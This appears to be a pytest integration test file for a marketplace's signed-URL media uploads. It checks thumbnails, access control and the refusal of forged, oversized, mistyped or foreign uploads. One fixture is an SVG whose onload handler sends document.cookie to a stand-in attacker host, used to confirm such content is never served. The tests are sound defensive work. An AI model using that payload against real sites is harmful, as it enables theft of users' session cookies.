"""Media over HTTP on the embedded adapters: announce, PUT to the signed URL, complete, download."""

from __future__ import annotations

import io
from collections.abc import AsyncIterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from litestar.testing import AsyncTestClient
from PIL import Image

from marketplace.entrypoints.container import build_container, resolve
from marketplace.entrypoints.http.app import create_app
from tests.integration.web.conftest import Api, _settings

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(`//evil.example/?`+document.cookie)"/>'


def _png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (500, 400), (200, 60, 60)).save(out, "PNG")
    return out.getvalue()


def _local(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.path}?{parts.query}"


async def _announce(api: Api, auth: dict[str, str], data: bytes, filename: str = "batik.png") -> dict[str, Any]:
    ticket = await api.client.post(
        "/api/v1/media/uploads",
        headers=auth,
        json={"filename": filename, "content_type": "image/png", "size": len(data), "purpose": "product_image"},
    )
    assert ticket.status_code == 201, ticket.text
    return ticket.json()


@pytest.fixture
async def local_api(request: pytest.FixtureRequest, tmp_path: Any) -> AsyncIterator[Api]:
    """The embedded default (SQLite and the local folder): the signed file route is its storage's."""
    settings = _settings("sqlite", tmp_path, request)
    container = build_container(settings)
    async with AsyncTestClient(app=create_app(settings, container)) as client:
        yield Api(client=client, settings=settings, container=container)


async def test_a_seller_uploads_a_png_and_downloads_it_and_its_thumbnail(local_api: Api) -> None:
    api, seller = local_api, await local_api.register("seller")
    auth = {"Authorization": seller["auth"]}
    data = _png()
    ticket = await _announce(api, auth, data)
    sent = await api.client.put(_local(ticket["upload_url"]), content=data, headers=ticket["headers"])
    assert sent.status_code == 200, sent.text
    done = await api.client.post(f"/api/v1/media/{ticket['media_id']}/complete", headers=auth)
    assert done.status_code == 200, done.text
    assert done.json()["size"] == len(data) and done.json()["thumbnail_url"].endswith("/thumbnail")

    original = await api.client.get(f"/api/v1/media/{ticket['media_id']}", headers=auth, follow_redirects=False)
    assert original.status_code == 302
    fetched = await api.client.get(_local(original.headers["location"]))
    assert fetched.status_code == 200 and fetched.content == data and fetched.headers["content-type"] == "image/png"
    thumb = await api.client.get(f"/api/v1/media/{ticket['media_id']}/thumbnail", headers=auth, follow_redirects=False)
    picture = Image.open(io.BytesIO((await api.client.get(_local(thumb.headers["location"]))).content))
    assert picture.format == "WEBP" and max(picture.size) == 320

    stranger = await api.register("stranger")
    assert (
        await api.client.get(
            f"/api/v1/media/{ticket['media_id']}", follow_redirects=False, headers={"Authorization": stranger["auth"]}
        )
    ).status_code == 404


async def test_a_shell_script_declared_as_png_is_refused_and_gone(local_api: Api) -> None:
    api, seller = local_api, await local_api.register("seller")
    auth = {"Authorization": seller["auth"]}
    script = b"#!/bin/sh\necho owned\n" * 5
    ticket = await _announce(api, auth, script, filename="script.png")
    assert (
        await api.client.put(_local(ticket["upload_url"]), content=script, headers=ticket["headers"])
    ).status_code == 200
    refused = await api.client.post(f"/api/v1/media/{ticket['media_id']}/complete", headers=auth)
    assert refused.status_code == 422 and refused.json()["errors"][0]["field"] == "content_type"
    storage = api.container.storage()
    storage = await storage if hasattr(storage, "__await__") else storage
    assert await storage.keys(f"media/{seller['id']}/") == []


async def test_tampered_or_foreign_uploads_are_refused(local_api: Api) -> None:
    api, seller, stranger = local_api, await local_api.register("seller"), await local_api.register("stranger")
    auth = {"Authorization": seller["auth"]}
    data = _png()
    ticket = await _announce(api, auth, data)
    forged = _local(ticket["upload_url"]).replace("signature=", "signature=0")
    assert (await api.client.put(forged, content=data, headers=ticket["headers"])).status_code == 403
    other_type = await api.client.put(
        _local(ticket["upload_url"]), content=data, headers={"Content-Type": "image/jpeg"}
    )
    assert other_type.status_code == 403
    foreign = await api.client.post(
        f"/api/v1/media/{ticket['media_id']}/complete", headers={"Authorization": stranger["auth"]}
    )
    assert foreign.status_code == 404
    early = await api.client.post(f"/api/v1/media/{ticket['media_id']}/complete", headers=auth)
    assert early.status_code == 409


async def test_a_completed_upload_cannot_be_rewritten_through_its_upload_url(local_api: Api) -> None:
    api, seller = local_api, await local_api.register("seller")
    auth = {"Authorization": seller["auth"]}
    data = _png()
    ticket = await _announce(api, auth, data)
    assert await api.send_upload(ticket, data) == 200
    assert (await api.client.post(f"/api/v1/media/{ticket['media_id']}/complete", headers=auth)).status_code == 200

    assert await api.send_upload(ticket, SVG.ljust(3_000_000)) == 413, "more bytes than announced"
    await api.send_upload(ticket, SVG.ljust(len(data)))  # at most a stray staging object, never served

    again = await api.client.post(f"/api/v1/media/{ticket['media_id']}/complete", headers=auth)
    assert (again.json()["size"], again.json()["content_type"]) == (len(data), "image/png")
    original = await api.client.get(f"/api/v1/media/{ticket['media_id']}", headers=auth, follow_redirects=False)
    fetched = await api.client.get(_local(original.headers["location"]))
    assert (fetched.content, fetched.headers["content-type"]) == (data, "image/png")


async def test_the_file_route_takes_no_more_than_announced_nor_another_type_nor_a_final_key(local_api: Api) -> None:
    api, seller = local_api, await local_api.register("seller")
    auth = {"Authorization": seller["auth"]}
    data = _png()
    ticket = await _announce(api, auth, data)
    assert await api.send_upload(ticket, data + b"\0") == 413
    assert await api.send_upload(ticket, data, content_type="image/svg+xml") == 403  # the type is signed
    bigger = _local(ticket["upload_url"]).replace(f"size={len(data)}", f"size={len(data) + 1}")
    assert (await api.client.put(bigger, content=data + b"\0", headers=ticket["headers"])).status_code == 403
    assert (await api.client.post(f"/api/v1/media/{ticket['media_id']}/complete", headers=auth)).status_code == 409

    storage = await resolve(api.container.storage)
    final = f"media/{seller['id']}/{ticket['media_id']}/original.png"
    signed = await storage.presign_upload(final, "image/png", len(data), 60)  # even a valid signature
    assert (await api.client.put(_local(signed.url), content=data, headers=signed.headers)).status_code == 403
    assert await storage.head(final) is None


async def test_bad_announcements_are_422(api: Api) -> None:
    user = await api.register("someone")
    auth = {"Authorization": user["auth"]}
    for body in (
        {"filename": "a.png", "content_type": "image/png", "size": 10, "purpose": "avatar"},
        {"filename": "a.gif", "content_type": "image/gif", "size": 10, "purpose": "product_image"},
        {"filename": "a.png", "content_type": "image/png", "size": 0, "purpose": "product_image"},
        {"filename": "a.png", "content_type": "image/png", "size": 99 * 1024 * 1024, "purpose": "product_image"},
        {"filename": "../", "content_type": "image/png", "size": 10, "purpose": "product_image"},
    ):
        response = await api.client.post("/api/v1/media/uploads", headers=auth, json=body)
        assert response.status_code == 422, (body, response.text)


async def _uploaded(api: Api, auth: dict[str, str], data: bytes) -> str:
    ticket = await _announce(api, auth, data)
    assert (
        await api.client.put(_local(ticket["upload_url"]), content=data, headers=ticket["headers"])
    ).status_code == 200
    assert (await api.client.post(f"/api/v1/media/{ticket['media_id']}/complete", headers=auth)).status_code == 200
    return str(ticket["media_id"])


async def test_a_products_images_show_in_its_detail_and_list_and_serve_to_anyone_once_public(local_api: Api) -> None:
    api, seller = local_api, await local_api.register("seller")
    auth = {"Authorization": seller["auth"]}
    data = _png()
    media_id = await _uploaded(api, auth, data)
    store = await api.open_store(seller)
    created = await api.client.post(
        f"/api/v1/stores/{store['id']}/products",
        headers=auth,
        json={
            "title": "Kain tenun ikat",
            "media_ids": [media_id],
            "variants": [{"sku": "IKAT-1", "name": "One", "price": 250_000, "stock": 2, "weight_grams": 300}],
        },
    )
    assert created.status_code == 201, created.text
    media = created.json()["media"]
    assert [m["id"] for m in media] == [media_id]
    assert media[0]["url"].endswith(f"/api/v1/media/{media_id}") and media[0]["thumbnail_url"].endswith("/thumbnail")

    hidden = await api.client.get(f"/api/v1/media/{media_id}", follow_redirects=False)
    assert hidden.status_code == 404, "a draft's images are not public yet"
    await api.client.post(f"/api/v1/products/{created.json()['id']}/publish", headers=auth)
    shown = await api.client.get(f"/api/v1/media/{media_id}", follow_redirects=False)
    assert shown.status_code == 302
    assert (await api.client.get(_local(shown.headers["location"]))).content == data
    listed = await api.client.get("/api/v1/products", params={"q": "tenun"})
    assert listed.json()["items"][0]["thumbnail_url"] == media[0]["thumbnail_url"]


async def test_someone_elses_or_unfinished_media_cannot_be_attached(local_api: Api) -> None:
    api, seller, other = local_api, await local_api.register("seller"), await local_api.register("other")
    theirs = await _uploaded(api, {"Authorization": other["auth"]}, _png())
    unfinished = (await _announce(api, {"Authorization": seller["auth"]}, _png()))["media_id"]
    store = await api.open_store(seller)
    for media_ids in ([theirs], [unfinished], ["00000000-0000-7000-8000-000000000000"]):
        response = await api.client.post(
            f"/api/v1/stores/{store['id']}/products",
            headers={"Authorization": seller["auth"]},
            json={
                "title": "Batik",
                "media_ids": media_ids,
                "variants": [{"sku": "B-1", "name": "One", "price": 1000, "stock": 1, "weight_grams": 1}],
            },
        )
        assert response.status_code == 422 and response.json()["errors"][0]["field"] == "media_ids", response.text
        assert "unknown media id" in response.json()["errors"][0]["message"]


async def test_a_store_takes_a_logo_that_anyone_can_fetch(local_api: Api) -> None:
    api, seller = local_api, await local_api.register("seller")
    auth = {"Authorization": seller["auth"]}
    data = _png()
    ticket = (
        await api.client.post(
            "/api/v1/media/uploads",
            headers=auth,
            json={"filename": "logo.png", "content_type": "image/png", "size": len(data), "purpose": "store_logo"},
        )
    ).json()
    await api.client.put(_local(ticket["upload_url"]), content=data, headers=ticket["headers"])
    assert (await api.client.post(f"/api/v1/media/{ticket['media_id']}/complete", headers=auth)).status_code == 200
    product_image = await _uploaded(api, auth, _png())

    store = await api.open_store(seller)
    wrong = await api.client.patch(f"/api/v1/stores/{store['id']}", headers=auth, json={"logo_media_id": product_image})
    assert wrong.status_code == 422, "a product image is not a logo"
    updated = await api.client.patch(
        f"/api/v1/stores/{store['id']}", headers=auth, json={"logo_media_id": ticket["media_id"]}
    )
    assert updated.status_code == 200 and updated.json()["logo_url"].endswith(f"/api/v1/media/{ticket['media_id']}")
    logo = await api.client.get(f"/api/v1/media/{ticket['media_id']}", follow_redirects=False)
    assert logo.status_code == 302 and (await api.client.get(_local(logo.headers["location"]))).content == data
    cleared = await api.client.patch(f"/api/v1/stores/{store['id']}", headers=auth, json={"logo_media_id": None})
    assert cleared.json()["logo_url"] is None
